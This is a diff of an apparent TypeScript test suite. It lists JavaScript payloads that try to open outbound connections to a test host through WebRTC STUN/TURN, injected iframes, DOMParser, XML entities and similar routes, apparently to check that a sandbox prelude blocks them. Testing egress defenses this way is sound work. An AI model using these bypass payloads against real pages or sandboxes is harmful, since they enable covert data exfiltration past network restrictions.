@@ -47,7 +47,7 @@ export const SENDS: Attack[] = [
     webrtc: "(() => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + F.slice(7) }, { urls: 'turn:' + F.slice(7) + '?transport=tcp', username: 'secret', credential: 'x' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)); })()",
     "old webrtc": "new webkitRTCPeerConnection({})",
     "webrtc in a frame": "(() => { const f = document.createElement('iframe'); f.srcdoc = '<script>' + RTC + '<\\/script>'; document.body.append(f); return f.contentWindow ? 'framed' : Promise.reject('none'); })()",
-    "webrtc in written markup": "(document.body.insertAdjacentHTML('beforeend', '<if' + 'rame srcdoc=\"<script>' + RTC.replaceAll('\"', '&quot;') + '</script>\"></if' + 'rame>'), document.querySelector('iframe') ? 'framed' : Promise.reject('none'))",
+    "webrtc in written markup": "(document.body.insertAdjacentHTML('beforeend', '<if' + 'rame srcdoc=\"<script>' + RTC.replaceAll('\"', '&quot;') + '<\\/script>\"></if' + 'rame>'), document.querySelector('iframe') ? 'framed' : Promise.reject('none'))",
     "a frame by namespace": "(document.body.append(document.createElementNS('http://www.w3.org/1999/xhtml', 'h:iframe')), (document.body.lastChild.src = F), document.querySelector('iframe') || frames.length ? 'framed' : Promise.reject('none'))",
     "a frame parsed": "(document.body.append(document.adoptNode(new DOMParser().parseFromString(`<iframe src='${F}'></iframe>`, 'text/html').body)), frames.length ? 'framed' : Promise.reject('none'))",
     "a frame parsed as xml": "(document.body.append(document.adoptNode(new DOMParser().parseFromString(`<!DOCTYPE h [<!ENTITY e '&#60;iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"${F}\"/&#62;'>]><h>&e;</h>`, 'application/xhtml+xml').documentElement)), frames.length ? 'framed' : Promise.reject('none'))",
@@ -109,7 +109,7 @@ export const LEAVES: Record<string, string> = {
 };
 
 /** A page that connects to `at` by each of the ways that only a prelude or a newer browser stops: nothing else would be a proof. */
-export const control = (at: string) => `<link rel=preconnect href="${at}"><script>
+export const control = (at: string) => `<link rel=preconnect href="${at.replace("//", "//ahead.")}"><script>
 const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${at.slice(7)}" }] });
 c.createDataChannel("x");
 c.createOffer().then((offer) => c.setLocalDescription(offer));
